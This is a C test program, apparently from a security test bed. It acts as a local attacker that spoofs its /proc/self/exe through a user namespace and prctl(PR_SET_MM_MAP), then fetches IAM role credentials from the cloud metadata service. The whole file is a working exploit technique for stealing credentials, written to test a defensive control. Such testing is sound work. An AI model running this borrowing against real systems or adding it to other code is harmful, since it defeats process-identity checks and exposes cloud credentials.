/* hostile-borrow: the review's exe borrowing (issue 11, item 4), as an unprivileged
 * local attacker runs it. It points its own mm->exe_file at another program's file with
 * prctl(PR_SET_MM_MAP) in a new user namespace, then asks IMDS for the role's credentials.
 *
 *	hostile-borrow EXE ADDR PORT
 *
 * The kernel refuses a new exe_file while the old one is still mapped, so first every
 * mapping of this program's own file is replaced by an anonymous copy of itself (mremap
 * over it: one step, the bytes at each address unchanged). Prints "borrowed EXE" once
 * /proc/self/exe names EXE, then what IMDS answered.
 * Exit codes: 0 answered, 7 could not connect (as curl), 1 the borrowing failed.
 * Built by the test bed with cc (testbed.BorrowBinary); no Go: its runtime's threads
 * would write to the data mapping while it is copied. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

static void die(const char *what)
{
	fprintf(stderr, "hostile-borrow: %s: %s\n", what, strerror(errno));
	exit(1);
}

/* Replaces every mapping of this program's file by an anonymous copy. */
static void unmap_self(void)
{
	char exe[4096], line[8192];
	ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
	if (n < 0)
		die("readlink /proc/self/exe");
	exe[n] = 0;
	struct {
		unsigned long start, end;
		int prot;
	} maps[64];
	int nmaps = 0;
	FILE *f = fopen("/proc/self/maps", "r");
	if (!f)
		die("open /proc/self/maps");
	while (fgets(line, sizeof line, f) && nmaps < 64) {
		unsigned long start, end;
		char perms[8], path[4096] = "";
		if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %4095[^\n]", &start, &end, perms, path) < 3)
			continue;
		if (strcmp(path, exe) != 0)
			continue;
		maps[nmaps].start = start;
		maps[nmaps].end = end;
		maps[nmaps].prot = (perms[0] == 'r' ? PROT_READ : 0) | (perms[1] == 'w' ? PROT_WRITE : 0) |
				   (perms[2] == 'x' ? PROT_EXEC : 0);
		nmaps++;
	}
	fclose(f);
	for (int i = 0; i < nmaps; i++) {
		size_t len = maps[i].end - maps[i].start;
		void *copy = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (copy == MAP_FAILED)
			die("mmap");
		if (maps[i].prot & PROT_READ)
			memcpy(copy, (void *)maps[i].start, len);
		if (mprotect(copy, len, maps[i].prot))
			die("mprotect");
		if (mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)maps[i].start) == MAP_FAILED)
			die("mremap");
	}
}

/* stat fields, 1-based as in proc(5), after the comm in parentheses. */
static void stat_fields(unsigned long long v[52])
{
	char buf[4096];
	int fd = open("/proc/self/stat", O_RDONLY);
	if (fd < 0)
		die("open /proc/self/stat");
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		die("read /proc/self/stat");
	buf[n] = 0;
	char *p = strrchr(buf, ')');
	if (!p)
		die("parse /proc/self/stat");
	p += 2; /* field 3 */
	memset(v, 0, 52 * sizeof v[0]);
	for (int i = 3; i < 52 && *p; i++) {
		if (i == 3) {
			p += 2; /* the state letter */
			continue;
		}
		v[i] = strtoull(p, &p, 10);
	}
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: hostile-borrow EXE ADDR PORT\n");
		return 1;
	}
	int exe_fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (exe_fd < 0)
		die(argv[1]);
	unmap_self();
	if (unshare(CLONE_NEWUSER))
		die("unshare(CLONE_NEWUSER)");
	unsigned long long v[52];
	stat_fields(v);
	struct prctl_mm_map map = {
		.start_code = v[26],
		.end_code = v[27],
		.start_stack = v[28],
		.start_data = v[45],
		.end_data = v[46],
		.start_brk = v[47],
		.brk = (unsigned long)sbrk(0),
		.arg_start = v[48],
		.arg_end = v[49],
		.env_start = v[50],
		.env_end = v[51],
		.auxv = NULL,
		.auxv_size = 0,
		.exe_fd = exe_fd,
	};
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&map, sizeof map, 0))
		die("prctl(PR_SET_MM_MAP)");
	char now[4096];
	ssize_t n = readlink("/proc/self/exe", now, sizeof now - 1);
	if (n < 0)
		die("readlink /proc/self/exe");
	now[n] = 0;
	if (strcmp(now, argv[1]) != 0) {
		fprintf(stderr, "hostile-borrow: /proc/self/exe is %s after prctl\n", now);
		return 1;
	}
	printf("borrowed %s\n", now);
	fflush(stdout);

	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		die("socket");
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
	if (inet_pton(AF_INET, argv[2], &sa.sin_addr) != 1) {
		fprintf(stderr, "hostile-borrow: address %s\n", argv[2]);
		return 1;
	}
	if (connect(s, (struct sockaddr *)&sa, sizeof sa)) {
		fprintf(stderr, "hostile-borrow: connect: %s\n", strerror(errno));
		return 7;
	}
	const char req[] = "GET /latest/meta-data/iam/security-credentials/baskinc-role HTTP/1.1\r\n"
			   "Host: 169.254.169.254\r\nConnection: close\r\n\r\n";
	if (write(s, req, sizeof req - 1) < 0)
		die("send");
	char buf[4096];
	while ((n = read(s, buf, sizeof buf)) > 0)
		fwrite(buf, 1, n, stdout);
	return 0;
}
